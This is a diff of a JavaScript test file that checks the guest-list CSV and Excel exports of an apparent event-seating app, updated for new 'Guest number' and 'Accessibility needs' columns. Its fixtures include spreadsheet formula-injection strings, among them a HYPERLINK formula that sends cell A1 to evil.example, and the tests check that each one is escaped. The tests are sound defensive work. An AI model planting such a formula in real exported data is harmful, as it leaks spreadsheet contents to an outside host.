@@ -393,8 +393,8 @@ for (const backend of backends()) {
       expect(rows('Garden').slice(1)).toEqual([['G-1', '', '', '', '(free)', '', '', '', '']]);
       expect(rows('Not placed').slice(1)).toEqual([['', '2', '0/8', '', '(nobody seated)', '', '', '', '']]);
       const all = rows('All guests');
-      expect(all[0]).toEqual(['Name', 'E-mail', 'Party', 'Department', 'Dietary needs', 'VIP', 'Notes', 'Table', 'Physical table', 'Room']);
-      expect(all.slice(1).map((r) => [r[0], r[7], r[8], r[9]])).toEqual([
+      expect(all[0]).toEqual(['Guest number', 'Name', 'E-mail', 'Party', 'Department', 'Dietary needs', 'Accessibility needs', 'VIP', 'Notes', 'Table', 'Physical table', 'Room']);
+      expect(all.slice(1).map((r) => [r[1], r[9], r[10], r[11]])).toEqual([
         ["'\tTabbed", '', '', ''],
         [`'${evil}`, '1', 'H-1', 'Hall'],
         ['Zoë Ünal', '1', 'H-1', 'Hall'],
@@ -406,10 +406,10 @@ for (const backend of backends()) {
       expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
       const text = await csv.text();
       const lines = text.replace(/^\uFEFF/, '').split('\r\n');
-      expect(lines[0]).toBe('Name,E-mail,Party,Department,Dietary needs,VIP,Notes,Table,Physical table,Room');
-      expect(lines[2]).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",evil@example.org,,'+1 dept,,,'@SUM(A1),1,H-1,Hall`);
-      expect(lines[1]).toBe("'\tTabbed,,,,'-vegan,,,,,");
-      expect(lines[3]).toBe('Zoë Ünal,,,Vertrieb,,,,1,H-1,Hall');
+      expect(lines[0]).toBe('Guest number,Name,E-mail,Party,Department,Dietary needs,Accessibility needs,VIP,Notes,Table,Physical table,Room');
+      expect(lines[2]).toBe(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",evil@example.org,,'+1 dept,,,,'@SUM(A1),1,H-1,Hall`);
+      expect(lines[1]).toBe(",'\tTabbed,,,,'-vegan,,,,,,");
+      expect(lines[3]).toBe(',Zoë Ünal,,,Vertrieb,,,,,1,H-1,Hall');
       expect(lines.slice(4)).toEqual(['']);
       expect(text.split('\r\n').every((l) => !/^[=+\-@]|,[=+\-@]/.test(l))).toBe(true);
 
@@ -421,9 +421,9 @@ for (const backend of backends()) {
       const raw = Buffer.from(await excel.arrayBuffer());
       expect([...raw.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
       const semi = raw.subarray(3).toString('utf8').split('\r\n');
-      expect(semi[0]).toBe('Name;E-mail;Party;Department;Dietary needs;VIP;Notes;Table;Physical table;Room');
-      expect(semi[2]).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")";evil@example.org;;'+1 dept;;;'@SUM(A1);1;H-1;Hall`);
-      expect(semi[3]).toBe('Zoë Ünal;;;Vertrieb;;;;1;H-1;Hall');
+      expect(semi[0]).toBe('Guest number;Name;E-mail;Party;Department;Dietary needs;Accessibility needs;VIP;Notes;Table;Physical table;Room');
+      expect(semi[2]).toBe(`;"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")";evil@example.org;;'+1 dept;;;;'@SUM(A1);1;H-1;Hall`);
+      expect(semi[3]).toBe(';Zoë Ünal;;;Vertrieb;;;;;1;H-1;Hall');
     });
   });
 }
